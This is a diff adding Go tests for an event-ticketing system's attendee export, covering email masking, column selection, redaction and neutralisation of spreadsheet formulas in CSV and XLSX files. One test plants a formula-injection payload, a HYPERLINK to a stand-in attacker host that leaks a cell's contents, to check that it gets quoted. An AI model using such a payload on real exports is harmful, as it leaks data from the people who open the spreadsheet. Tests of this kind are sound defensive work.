@@ -0,0 +1,238 @@
+package handlers
+
+import (
+	"encoding/csv"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strconv"
+	"testing"
+
+	"event-ticketing-system/internal/models"
+	"event-ticketing-system/internal/payment"
+	"event-ticketing-system/pkg/mailer"
+	"event-ticketing-system/pkg/webhook"
+
+	"github.com/jinzhu/gorm"
+	"github.com/xuri/excelize/v2"
+)
+
+func TestMaskEmail(t *testing.T) {
+	tests := []struct {
+		email string
+		want  string
+	}{
+		{email: "jane@example.com", want: "j***@example.com"},
+		{email: "j@example.com", want: "j***@example.com"},
+		{email: "first\"@\"last@example.com", want: "f***@example.com"},
+		{email: "émile@example.com", want: "é***@example.com"},
+		{email: "not-an-email", want: "n***"},
+		{email: "@example.com", want: "@example.com"},
+		{email: "", want: ""},
+	}
+
+	for _, tt := range tests {
+		if got := maskEmail(tt.email); got != tt.want {
+			t.Errorf("maskEmail(%q) = %q, want %q", tt.email, got, tt.want)
+		}
+	}
+}
+
+// createNamedAttendee inserts a user with the name and a valid ticket of the event held by them
+func createNamedAttendee(t *testing.T, db *gorm.DB, event models.Event, name string) (models.User, models.Ticket) {
+	t.Helper()
+	user := createTestUser(t, db, "user")
+	if err := db.Model(&models.User{}).Where("id = ?", user.ID).UpdateColumn("name", name).Error; err != nil {
+		t.Fatalf("name user: %v", err)
+	}
+	user.Name = name
+	return user, createTestTicket(t, db, event, user)
+}
+
+// exportAttendees exports the event's attendees as an admin with the query and returns the
+// recorded response
+func exportAttendees(t *testing.T, h *TicketHandler, db *gorm.DB, event models.Event, query string) *httptest.ResponseRecorder {
+	t.Helper()
+	vars := map[string]string{"id": strconv.Itoa(int(event.ID))}
+	w := httptest.NewRecorder()
+	h.ExportAttendees(w, authedRequest("GET", "/api/admin/events/"+vars["id"]+"/attendees/export?"+query, "", createTestUser(t, db, "admin"), vars))
+	return w
+}
+
+// exportCSVRecords exports the event's attendees as CSV and returns the header and rows
+func exportCSVRecords(t *testing.T, h *TicketHandler, db *gorm.DB, event models.Event, query string) [][]string {
+	t.Helper()
+	w := exportAttendees(t, h, db, event, query)
+	if w.Code != http.StatusOK {
+		t.Fatalf("export with %q returned %d: %s", query, w.Code, w.Body.String())
+	}
+	records, err := csv.NewReader(w.Body).ReadAll()
+	if err != nil {
+		t.Fatalf("read CSV export: %v", err)
+	}
+	return records
+}
+
+func TestExportAttendeesRedactsFields(t *testing.T) {
+	db := openTestDB(t)
+	h := NewTicketHandler(db, webhook.LogNotifier{}, mailer.LogSender{}, payment.NewFake())
+	event := createTestEvent(t, db, 5, 20)
+	user, ticket := createNamedAttendee(t, db, event, "Jane Doe")
+
+	records := exportCSVRecords(t, h, db, event, "columns=ticket_id,name,email,status&redact=email,name")
+	if len(records) != 2 {
+		t.Fatalf("export has %d records, want a header and one row", len(records))
+	}
+	want := []string{strconv.Itoa(int(ticket.ID)), "J***", maskEmail(user.Email), "valid"}
+	for i, cell := range records[1] {
+		if cell != want[i] {
+			t.Errorf("column %s = %q, want %q", records[0][i], cell, want[i])
+		}
+	}
+
+	records = exportCSVRecords(t, h, db, event, "columns=name,email")
+	if records[1][0] != "Jane Doe" || records[1][1] != user.Email {
+		t.Errorf("unredacted export row = %v, want the name and email intact", records[1])
+	}
+
+	if w := exportAttendees(t, h, db, event, "redact=password"); w.Code != http.StatusBadRequest {
+		t.Errorf("redacting an unknown field returned %d, want %d", w.Code, http.StatusBadRequest)
+	}
+}
+
+func TestParseExportColumns(t *testing.T) {
+	available := []exportColumn{{Key: "ticket_id", Header: "Ticket ID"}, {Key: "email", Header: "Email"}, {Key: "status", Header: "Status"}}
+
+	tests := []struct {
+		name    string
+		value   string
+		want    []string
+		wantErr bool
+	}{
+		{name: "empty selects every column", value: "", want: []string{"ticket_id", "email", "status"}},
+		{name: "blank entries select every column", value: " , ,", want: []string{"ticket_id", "email", "status"}},
+		{name: "columns keep the requested order", value: "status,ticket_id", want: []string{"status", "ticket_id"}},
+		{name: "keys are trimmed and case-insensitive", value: " Email , STATUS", want: []string{"email", "status"}},
+		{name: "unknown column", value: "ticket_id,password", wantErr: true},
+		{name: "duplicate column", value: "email,Email", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			columns, err := parseExportColumns(tt.value, available)
+			if tt.wantErr {
+				if err == nil {
+					t.Fatalf("expected an error, got %d columns", len(columns))
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			keys := make([]string, 0, len(columns))
+			for _, column := range columns {
+				keys = append(keys, column.Key)
+			}
+			if !reflect.DeepEqual(keys, tt.want) {
+				t.Errorf("columns = %v, want %v", keys, tt.want)
+			}
+		})
+	}
+}
+
+func TestExportAttendeesColumnOrder(t *testing.T) {
+	db := openTestDB(t)
+	h := NewTicketHandler(db, webhook.LogNotifier{}, mailer.LogSender{}, payment.NewFake())
+	event := createTestEvent(t, db, 5, 20)
+	user, ticket := createNamedAttendee(t, db, event, "Jane Doe")
+
+	records := exportCSVRecords(t, h, db, event, "columns=status,ticket_id,email")
+	want := [][]string{
+		{"Status", "Ticket ID", "User Email"},
+		{"valid", strconv.Itoa(int(ticket.ID)), user.Email},
+	}
+	if !reflect.DeepEqual(records, want) {
+		t.Fatalf("export = %v, want %v", records, want)
+	}
+
+	// Without a selection every column is exported
+	records = exportCSVRecords(t, h, db, event, "")
+	if len(records[0]) != len(attendeeExportColumns) || records[0][0] != "Ticket ID" {
+		t.Errorf("default export header = %v, want all %d columns", records[0], len(attendeeExportColumns))
+	}
+
+	if w := exportAttendees(t, h, db, event, "columns=ticket_id,password"); w.Code != http.StatusBadRequest {
+		t.Errorf("exporting an unknown column returned %d, want %d", w.Code, http.StatusBadRequest)
+	}
+}
+
+func TestSanitizeExportCell(t *testing.T) {
+	tests := []struct {
+		value string
+		want  string
+	}{
+		{value: "", want: ""},
+		{value: "Jane Doe", want: "Jane Doe"},
+		{value: "=HYPERLINK(\"http://example.com\")", want: "'=HYPERLINK(\"http://example.com\")"},
+		{value: "+1+1", want: "'+1+1"},
+		{value: "-2+3", want: "'-2+3"},
+		{value: "@SUM(A1)", want: "'@SUM(A1)"},
+		{value: "\tcmd", want: "'\tcmd"},
+		{value: "\rcmd", want: "'\rcmd"},
+		{value: "-5", want: "-5"},
+		{value: "+12.50", want: "+12.50"},
+		{value: "a=b", want: "a=b"},
+	}
+
+	for _, tt := range tests {
+		if got := sanitizeExportCell(tt.value); got != tt.want {
+			t.Errorf("sanitizeExportCell(%q) = %q, want %q", tt.value, got, tt.want)
+		}
+	}
+
+	t.Setenv("EXPORT_SANITIZE_CELLS", "false")
+	if got := sanitizeExportCell("=1+1"); got != "=1+1" {
+		t.Errorf("sanitizeExportCell() with sanitizing disabled = %q, want the value unchanged", got)
+	}
+}
+
+func TestExportAttendeesNeutralizesFormulas(t *testing.T) {
+	db := openTestDB(t)
+	h := NewTicketHandler(db, webhook.LogNotifier{}, mailer.LogSender{}, payment.NewFake())
+	event := createTestEvent(t, db, 5, 20)
+	const malicious = `=HYPERLINK("http://attacker.example/?leak="&A1,"Click")`
+	createNamedAttendee(t, db, event, malicious)
+
+	records := exportCSVRecords(t, h, db, event, "columns=name")
+	if records[1][0] != "'"+malicious {
+		t.Errorf("CSV name cell = %q, want it prefixed with a quote", records[1][0])
+	}
+
+	w := exportAttendees(t, h, db, event, "columns=name&format=xlsx")
+	if w.Code != http.StatusOK {
+		t.Fatalf("XLSX export returned %d: %s", w.Code, w.Body.String())
+	}
+	file, err := excelize.OpenReader(w.Body)
+	if err != nil {
+		t.Fatalf("open XLSX export: %v", err)
+	}
+	defer file.Close()
+	sheet := file.GetSheetName(0)
+	value, err := file.GetCellValue(sheet, "A2")
+	if err != nil {
+		t.Fatalf("read name cell: %v", err)
+	}
+	formula, err := file.GetCellFormula(sheet, "A2")
+	if err != nil {
+		t.Fatalf("read name cell formula: %v", err)
+	}
+	if value != "'"+malicious || formula != "" {
+		t.Errorf("XLSX name cell = %q with formula %q, want the quoted text and no formula", value, formula)
+	}
+
+	t.Setenv("EXPORT_SANITIZE_CELLS", "false")
+	records = exportCSVRecords(t, h, db, event, "columns=name")
+	if records[1][0] != malicious {
+		t.Errorf("CSV name cell with sanitizing disabled = %q, want it unchanged", records[1][0])
+	}
+}